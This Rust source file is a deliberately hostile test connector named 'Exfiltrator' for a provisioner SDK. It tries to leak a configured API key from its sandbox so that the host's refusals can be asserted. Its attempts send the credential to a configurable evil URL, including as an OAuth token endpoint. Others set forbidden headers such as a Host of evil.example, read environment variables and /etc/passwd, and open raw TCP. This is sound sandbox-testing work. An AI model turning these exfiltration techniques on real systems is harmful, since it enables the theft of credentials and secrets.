//! Hostile test connector (contract 0.2) that tries every way it knows to get a secret out of the
//! host.
//!
//! `provision` makes each attempt below and reports what it saw as one warning per attempt,
//! `<tag>=<what happened>`, so a test can assert that every attempt was refused and that nothing
//! the guest saw contains a secret value:
//! - `a-bearer-evil`, `a-header-evil`: a secret credential sent to the URL in `evil-url`, a plain
//!   text property (not a `url` property, so not on the allow-list);
//! - `b-keyname`: the secret's key name in a header and the body, to the allowed endpoint;
//! - `b-authz`, `b-cookie`, `b-host`, `b-proxy`: forbidden headers set by the guest itself;
//! - `b-echo`: a legitimate bearer credential to the allowed endpoint, whose echo of the request
//!   comes back to the guest (the host must redact the secret from it);
//! - `c-oauth-evil`: an OAuth grant whose token URL is the evil URL;
//! - `c-ref-nonsecret`, `c-ref-unknown`: secret references to a non-secret and to an unknown key;
//! - `d-env`, `d-args`, `d-fs-root`, `d-fs-passwd`, `d-fs-cwd`, `d-tcp`: ambient WASI authority.
//!
//! The change itself is ignored. `provision-batch` (`max-batch-size` 1) applies `provision` to each
//! change in order; `list-entities` answers `unsupported`.

use provisioner_sdk::prelude::*;
use provisioner_sdk::{ClientCredentialsGrant, HttpError, OauthGrant, SecretHeader};

/// The connector.
pub struct Exfiltrator;

fn property(key: &str, kind: PropertyKind, required: bool, secret: bool) -> ConfigProperty {
    let mut property = ConfigProperty::new(key, kind).description(&format!("Test property {key}."));
    property.required = required;
    property.secret = secret;
    property
}

/// The text of `key` exactly as configured, empty when unset.
fn text(cx: &Context, key: &str) -> String {
    match cx.config().get(key) {
        Some(ConfigValue::Text(t)) => t.clone(),
        _ => String::new(),
    }
}

fn api_key() -> SecretRef {
    SecretRef {
        key: "api-key".into(),
    }
}

fn request(
    method: Method,
    url: &str,
    headers: &[(&str, &str)],
    body: Option<&[u8]>,
    credential: Option<Credential>,
) -> Request {
    Request {
        method,
        url: url.into(),
        headers: headers
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_string()))
            .collect(),
        body: body.map(<[u8]>::to_vec),
        credential,
        timeout_ms: Some(5_000),
    }
}

/// Renders a `send` result: `ok status=.. body=..`, or the error's kind and text.
fn describe(result: Result<Response, HttpError>) -> String {
    match result {
        Ok(r) => format!(
            "ok status={} headers={:?} body={}",
            r.status,
            r.headers,
            String::from_utf8_lossy(&r.body)
        ),
        Err(HttpError::Denied(m)) => format!("denied: {m}"),
        Err(HttpError::InvalidRequest(m)) => format!("invalid: {m}"),
        Err(e) => format!("error: {e:?}"),
    }
}

impl Connector for Exfiltrator {
    fn metadata() -> ConnectorMetadata {
        ConnectorMetadata::new(
            "exfiltrator",
            "Exfiltrator",
            "0.1.0",
            "Tries to leak its secrets.",
        )
        .property(property("endpoint", PropertyKind::Url, true, false))
        .property(property("api-key", PropertyKind::Text, true, true))
        .property(property("evil-url", PropertyKind::Text, false, false))
    }

    fn validate(_config: &ConnectorConfig) -> Vec<ConfigProblem> {
        vec![]
    }

    fn provision(cx: &Context, _change: &Change) -> Result<ProvisionOutcome, ProvisionError> {
        let http = cx.host();
        let endpoint = text(cx, "endpoint");
        let endpoint = endpoint.trim_end_matches('/');
        let evil = text(cx, "evil-url");
        let mut seen = Vec::new();
        let mut attempt = |tag: &str, result: String| seen.push(format!("{tag}={result}"));

        // (a) A secret credential to a destination that is not a configured endpoint.
        attempt(
            "a-bearer-evil",
            describe(http.send(&request(
                Method::Post,
                &evil,
                &[],
                Some(b"hello"),
                Some(Credential::Bearer(api_key())),
            ))),
        );
        attempt(
            "a-header-evil",
            describe(http.send(&request(
                Method::Get,
                &evil,
                &[],
                None,
                Some(Credential::Header(SecretHeader {
                    name: "x-api-key".into(),
                    value: api_key(),
                })),
            ))),
        );

        // (b) Things sent to the allowed endpoint.
        let collect = format!("{endpoint}/collect");
        attempt(
            "b-keyname",
            describe(http.send(&request(
                Method::Post,
                &collect,
                &[("x-leak", "api-key")],
                Some(b"api-key"),
                None,
            ))),
        );
        attempt(
            "b-authz",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[("Authorization", "Bearer api-key")],
                None,
                None,
            ))),
        );
        attempt(
            "b-cookie",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[("Cookie", "api-key")],
                None,
                None,
            ))),
        );
        attempt(
            "b-host",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[("Host", "evil.example")],
                None,
                None,
            ))),
        );
        attempt(
            "b-proxy",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[("Proxy-Authorization", "Basic eA==")],
                None,
                None,
            ))),
        );
        let echo = format!("{endpoint}/echo");
        attempt(
            "b-echo",
            describe(http.send(&request(
                Method::Get,
                &echo,
                &[],
                None,
                Some(Credential::Bearer(api_key())),
            ))),
        );

        // (c) Credentials through the back door.
        let grant = OauthGrant::ClientCredentials(ClientCredentialsGrant {
            token_url: evil.clone(),
            client_id: "exfiltrator".into(),
            client_secret: api_key(),
            use_basic_auth: false,
        });
        attempt(
            "c-oauth-evil",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[],
                None,
                Some(Credential::Oauth(grant)),
            ))),
        );
        attempt(
            "c-ref-nonsecret",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[],
                None,
                Some(Credential::Bearer(SecretRef {
                    key: "endpoint".into(),
                })),
            ))),
        );
        attempt(
            "c-ref-unknown",
            describe(http.send(&request(
                Method::Get,
                &collect,
                &[],
                None,
                Some(Credential::Bearer(SecretRef { key: "nope".into() })),
            ))),
        );

        // (d) Ambient authority from WASI.
        attempt(
            "d-env",
            format!("{:?}", std::env::vars().collect::<Vec<_>>()),
        );
        attempt(
            "d-args",
            format!("{:?}", std::env::args().collect::<Vec<_>>()),
        );
        attempt(
            "d-fs-root",
            format!("{:?}", std::fs::read_dir("/").map(|d| d.count())),
        );
        attempt(
            "d-fs-passwd",
            format!(
                "{:?}",
                std::fs::read_to_string("/etc/passwd").map(|s| s.len())
            ),
        );
        attempt(
            "d-fs-cwd",
            format!("{:?}", std::fs::read_dir(".").map(|d| d.count())),
        );
        let authority = endpoint
            .split("://")
            .nth(1)
            .unwrap_or("")
            .split('/')
            .next()
            .unwrap_or("")
            .to_string();
        attempt(
            "d-tcp",
            format!(
                "{:?}",
                std::net::TcpStream::connect(authority.as_str()).map(|_| "connected")
            ),
        );

        Ok(ProvisionOutcome {
            remote_id: None,
            warnings: seen,
        })
    }

    fn lookup(_cx: &Context, _key: &LookupKey) -> Result<Option<RemoteObject>, ProvisionError> {
        Ok(None)
    }

    fn list_entities(_cx: &Context, _request: &ListRequest) -> Result<RemotePage, ProvisionError> {
        Err(error::unsupported("exfiltrator cannot list entities"))
    }
}

provisioner_sdk::export_connector!(Exfiltrator);
